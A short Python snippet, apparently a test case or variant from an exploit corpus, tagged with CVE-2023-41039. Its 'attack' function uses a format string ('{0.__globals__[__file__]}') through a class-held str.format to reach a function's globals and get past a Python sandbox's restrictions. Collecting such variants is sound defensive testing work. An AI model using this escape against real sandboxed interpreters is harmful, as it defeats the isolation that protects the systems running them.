# The method is put into a class of the source's own.
# after: interpreter
# source: CVE-2023-41039 (GHSA-xjw2-6jm9-rf67)
import json
class T:
    fmt = str.format
def attack(**_):
    return {"text": T.fmt("{0.__globals__[__file__]}", json.loads)}
